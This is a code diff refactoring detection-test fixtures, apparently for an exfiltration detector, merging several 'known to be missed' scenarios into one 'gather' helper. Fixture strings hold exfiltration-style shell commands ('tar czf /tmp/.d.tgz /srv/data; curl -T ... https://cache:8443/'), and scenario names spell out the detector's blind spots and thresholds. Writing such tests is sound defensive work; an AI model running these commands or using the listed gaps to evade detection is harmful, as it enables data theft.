@@ -527,29 +527,11 @@ function agentsWithHostAccess(tools) {
 // ---------------------------------------------------------------- known to be missed
 
 /** As fires-on-archives-of-four-workloads-over-tls, by two. */
-function twoSources(tools) {
-  const scenario = 'misses-archives-of-two-workloads';
-  const draw = tools.drawing(scenario);
-  const [cache, ...sources] = fleet(tools, draw, ['cache', 'shop', 'crm']);
-  writeInspect(tools, scenario, [cache, ...sources]);
-  const at = tools.DAY_0 + 9 * HOUR;
-  inputs(
-    tools,
-    scenario,
-    sources.map((from, index) =>
-      archive(tools, draw, { from, to: cache, at: at + index * 70, bytes: 18 * MB }),
-    ),
-  );
-  writeExecs(
-    tools,
-    scenario,
-    sources.map((from, index) => [
-      from,
-      at + index * 70 - 5,
-      'sh -c tar czf /tmp/.d.tgz /srv/data; curl -T /tmp/.d.tgz https://cache:8443/',
-    ]),
-  );
-}
+const twoSources = (tools) =>
+  gather(tools, 'misses-archives-of-two-workloads', {
+    names: ['shop', 'crm'],
+    command: 'sh -c tar czf /tmp/.d.tgz /srv/data; curl -T /tmp/.d.tgz https://cache:8443/',
+  });
 
 const twoPods = (tools) =>
   writePodCopies(tools, 'misses-kubectl-cp-out-of-two-pods', ['orders-0', 'customers-0']);
@@ -557,29 +539,11 @@ const twoPods = (tools) =>
 const twoWriters = (tools) => packIntoVolume(tools, 'misses-two-writers-into-one-volume', ['shop', 'crm']);
 
 /** Four workloads send what they have as it is; no command packs anything and no file sensor looks. */
-function unpackedCopies(tools) {
-  const scenario = 'misses-data-gathered-as-it-is';
-  const draw = tools.drawing(scenario);
-  const [cache, ...sources] = fleet(tools, draw, ['cache', 'shop', 'crm', 'hr', 'wiki']);
-  writeInspect(tools, scenario, [cache, ...sources]);
-  const at = tools.DAY_0 + 9 * HOUR;
-  inputs(
-    tools,
-    scenario,
-    sources.map((from, index) =>
-      archive(tools, draw, { from, to: cache, at: at + index * 70, bytes: 18 * MB }),
-    ),
-  );
-  writeExecs(
-    tools,
-    scenario,
-    sources.map((from, index) => [
-      from,
-      at + index * 70 - 5,
-      'curl -T /srv/data/all.csv https://cache:8443/',
-    ]),
-  );
-}
+const unpackedCopies = (tools) =>
+  gather(tools, 'misses-data-gathered-as-it-is', {
+    names: ['shop', 'crm', 'hr', 'wiki'],
+    command: 'curl -T /srv/data/all.csv https://cache:8443/',
+  });
 
 /** Four workloads pack and send in a hundred parts each, an hour after the logs begin. */
 function partsOnTheFirstDay(tools) {
@@ -643,10 +607,20 @@ function newSources(tools) {
 const littleLeaves = (tools) =>
   packAtTheStage(tools, 'misses-an-eleventh-of-what-three-gave-leaving', 109 * KB);
 
-/** Three workloads pack and send to a fourth, as an attack does; each value that is given is just under a threshold. */
-function gatherFromThree(tools, scenario, { bytes = 18 * MB, seconds = 4, packedBefore = 5 }) {
+/** Workloads pack and send to another, as an attack does; each value that is given is just under a threshold. */
+function gather(
+  tools,
+  scenario,
+  {
+    names = ['shop', 'crm', 'hr'],
+    bytes = 18 * MB,
+    seconds = 4,
+    packedBefore = 5,
+    command = 'tar czf /tmp/.d.tgz /srv/data',
+  },
+) {
   const draw = tools.drawing(scenario);
-  const [cache, ...sources] = fleet(tools, draw, ['cache', 'shop', 'crm', 'hr']);
+  const [cache, ...sources] = fleet(tools, draw, ['cache', ...names]);
   writeInspect(tools, scenario, [cache, ...sources]);
   const at = tools.DAY_0 + 9 * HOUR;
   inputs(
@@ -659,15 +633,15 @@ function gatherFromThree(tools, scenario, { bytes = 18 * MB, seconds = 4, packed
   writeExecs(
     tools,
     scenario,
-    sources.map((from, index) => [from, at + index * 70 - packedBefore, 'tar czf /tmp/.d.tgz /srv/data']),
+    sources.map((from, index) => [from, at + index * 70 - packedBefore, command]),
   );
 }
 
-const smallArchives = (tools) => gatherFromThree(tools, 'misses-archives-under-256-kib', { bytes: 250 * KB });
+const smallArchives = (tools) => gather(tools, 'misses-archives-under-256-kib', { bytes: 250 * KB });
 const trickledArchives = (tools) =>
-  gatherFromThree(tools, 'misses-archives-that-take-over-half-an-hour', { seconds: 31 * MINUTE });
+  gather(tools, 'misses-archives-that-take-over-half-an-hour', { seconds: 31 * MINUTE });
 const packedLongBefore = (tools) =>
-  gatherFromThree(tools, 'misses-archives-that-lay-for-eleven-minutes', { packedBefore: 11 * MINUTE });
+  gather(tools, 'misses-archives-that-lay-for-eleven-minutes', { packedBefore: 11 * MINUTE });
 
 // ---------------------------------------------------------------- novelty, and what stays of it
 
